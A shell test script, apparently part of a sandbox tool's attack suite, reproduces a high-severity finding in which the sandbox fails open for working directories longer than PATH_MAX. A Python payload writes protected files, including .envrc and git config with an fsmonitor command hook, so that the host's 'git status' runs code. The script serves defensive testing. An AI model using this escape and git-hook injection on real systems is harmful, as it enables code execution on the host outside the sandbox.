#!/bin/sh
# F1 (HIGH): the observer fails OPEN when the caller's cwd (or dirfd) path is
# longer than PATH_MAX: target_path() cannot readlink /proc/PID/cwd and
# observe_path() returns 0 (CONTINUE). A run creates absent protected paths
# at the workspace root (.envrc, .bashrc, .vscode, .git/commondir,
# .git/config.worktree ...) by relative path from a deep directory.
# Usage: tests/attack2/deep-cwd.sh [build/cordon]   (as root or a user)
set -eu
C=${1:-build/cordon}; C=$(readlink -f "$C")
WS=$(mktemp -d); cd "$WS"; git init -q .
cat > deep.py <<'PY'
import os
N = "0" * 200
for i in range(25):                      # cwd path > 4096 bytes
    os.makedirs(N, exist_ok=True); os.chdir(N)
up = "../" * 25
for p, data in ((".envrc", "touch /tmp/cordon-F1-envrc\n"), (".bashrc", ""),
                (".git/commondir", "../evilcommon\n"),
                (".git/config.worktree", "[core]\n\tfsmonitor = touch /tmp/cordon-F1-git; false\n")):
    try:
        open(up + p, "w").write(data); print("CREATED", p)
    except OSError as e:
        print("refused", p, e)
os.chdir(up)
os.makedirs("evilcommon/objects", exist_ok=True); os.makedirs("evilcommon/refs", exist_ok=True)
open("evilcommon/config", "w").write("[core]\n\tfsmonitor = touch /tmp/cordon-F1-git; false\n")
PY
"$C" run --rw "$WS" --cwd "$WS" -- python3 deep.py || true
rm -f /tmp/cordon-F1-git
git status >/dev/null 2>&1 || true
ls -la "$WS"
if [ -e /tmp/cordon-F1-git ]; then echo "VULNERABLE: host 'git status' ran the run's command"; rm -f /tmp/cordon-F1-git; fi
